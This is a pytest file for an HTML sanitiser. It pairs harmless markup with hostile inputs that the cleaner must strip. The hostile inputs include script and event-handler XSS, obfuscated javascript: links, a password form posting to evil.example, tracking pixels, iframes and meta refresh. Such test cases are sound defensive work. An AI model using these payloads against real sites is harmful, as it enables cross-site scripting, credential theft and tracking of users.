"""The one allow-list for HTML that others wrote."""

import pytest

from core.cleaning import clean

pytestmark = pytest.mark.once

HARMLESS = [
    "<p>One <b>two</b> <i>three</i></p>",
    "<ul><li>a</li><li>b</li></ul>",
    '<ol start="3"><li>c</li></ol>',
    '<table border="1"><tbody><tr><td colspan="2">x</td></tr></tbody></table>',
    "<pre>  code</pre>",
    '<blockquote type="cite">said</blockquote>',
    '<img src="cid:logo@example.org" alt="Logo" width="20">',
    '<img data-image="3" alt="x">',
    '<p dir="rtl" lang="he">שלום</p>',
]

# What goes in, and what is left.
HOSTILE = [
    ("<script>alert(1)</script>x", "x"),
    ("<ScRiPt >alert(1)</sCrIpT >x", "x"),
    ("<p onclick=alert(1) onmouseover='x'>x</p>", "<p>x</p>"),
    ("<style>*{display:none}</style>x", "x"),
    ("<p style='position:fixed;top:0'>x</p>", "<p>x</p>"),
    ("<p class='entry-note' id='main'>x</p>", "<p>x</p>"),
    ("<form action=https://evil.example><input name=password><button>x</button></form>", "x"),
    ("<iframe src=https://evil.example>y</iframe>x", "x"),
    ("<object data=x>y</object><embed src=x>z", "z"),
    ("<svg><script>alert(1)</script></svg>x", "x"),
    ("<math><mi xlink:href=javascript:alert(1)>y</mi></math>x", "x"),
    ("<base href=https://evil.example>x", "x"),
    ("<meta http-equiv=refresh content='0;url=x'>x", "x"),
    ("<link rel=stylesheet href=https://evil.example/x.css>x", "x"),
    ("<img src=https://evil.example/pixel.gif>", "<img>"),
    ("<img src=//evil.example/pixel.gif>", "<img>"),
    ("<img src=data:image/svg+xml;base64,PHN2Zz4=>", "<img>"),
    ("<img src=x onerror=alert(1)>", "<img>"),
    ("<img srcset='https://evil.example/x 1x'>", "<img>"),
    ("<img width=99999 height=99999>", "<img>"),
    ("<img data-image='0\" onload=x'>", "<img>"),
    (
        "<table background=https://evil.example/x><tr><td background=y>x</table>",
        "<table><tbody><tr><td>x</td></tr></tbody></table>",
    ),
    ("<video src=https://evil.example/x poster=y>z</video>", "z"),
    ("<!-- comment -->x<!--[if mso]>y<![endif]-->", "x"),
    ("<custom-element>x</custom-element>", "x"),
]

LINKS = [
    ("https://example.org/", "https://example.org/"),
    ("mailto:ada@example.org", "mailto:ada@example.org"),
    ("tel:+491234", "tel:+491234"),
    ("javascript:alert(1)", None),
    (" jav&#x09;ascript:alert(1)", None),
    ("data:text/html,<script>", None),
    ("vbscript:x", None),
    ("file:///etc/passwd", None),
    ("cid:page", None),
]


@pytest.mark.parametrize("html", HARMLESS)
def test_what_people_write_stays(html: str):
    assert clean(html) == html


@pytest.mark.parametrize(("html", "left"), HOSTILE)
def test_what_could_hurt_goes(html: str, left: str):
    assert clean(html) == left


@pytest.mark.parametrize(("address", "left"), LINKS)
def test_links_lead_where_they_may_and_tell_nothing(address: str, left: str | None):
    rest = f' href="{left}"' if left else ""

    assert (
        clean(f'<a href="{address}" target="_top" ping="x">x</a>')
        == f'<a{rest} rel="noopener noreferrer nofollow">x</a>'
    )


def test_cleaning_twice_changes_nothing():
    for html in (*HARMLESS, *(html for html, _ in HOSTILE)):
        assert clean(clean(html)) == clean(html)
